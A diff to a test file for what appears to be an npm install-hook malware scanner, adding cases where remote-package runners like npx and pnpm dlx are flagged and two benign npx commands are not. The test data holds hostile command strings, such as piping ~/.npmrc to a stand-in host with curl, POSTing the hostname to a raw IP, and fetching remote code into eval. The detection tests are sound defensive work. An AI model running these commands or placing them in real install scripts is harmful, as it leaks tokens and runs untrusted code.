@@ -32,6 +32,9 @@ test('behaviour rules: malicious install code is found with evidence', () => {
     [`node -e "require('https').get('https://c.example/?d='+1)"`, 'install.remote-exec.node-eval-remote', 'critical'],
     ['node -e "fetch(\'https://x.example\').then(r=>r.text()).then(eval)"', 'install.remote-exec.node-eval-remote', 'critical'],
     ['curl -X POST http://45.9.148.108:8080/c -d "$(hostname)"', 'install.remote-fetch.raw-ip-url', 'high'],
+    ['npx -y https://e.example/stage2.tgz', 'install.remote-exec.runner-remote-package', 'critical'],
+    ['npm exec --yes --package=github:someone/tool -- tool', 'install.remote-exec.runner-remote-package', 'critical'],
+    ["pnpm dlx 'git+https://host/x.git'", 'install.remote-exec.runner-remote-package', 'critical'],
     ['cat ~/.npmrc | curl -d @- https://x.example', 'install.credential-access.npm-token', 'critical'],
     ['echo $NPM_TOKEN', 'install.credential-access.npm-token', 'critical'],
     ["fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8')", 'install.credential-access.npm-token', 'critical'],
@@ -97,6 +100,8 @@ test('benign install scripts raise nothing above low', () => {
     'node ./scripts/postinstall.js',
     'tsc -p .',
     "node -e \"try{require('./postinstall')}catch(e){}\"",
+    'npx only-allow pnpm',
+    'npx --no-install husky install',
   ];
   for (const content of benign) {
     const { findings } = analyseInstallHooks([hook(content)]);
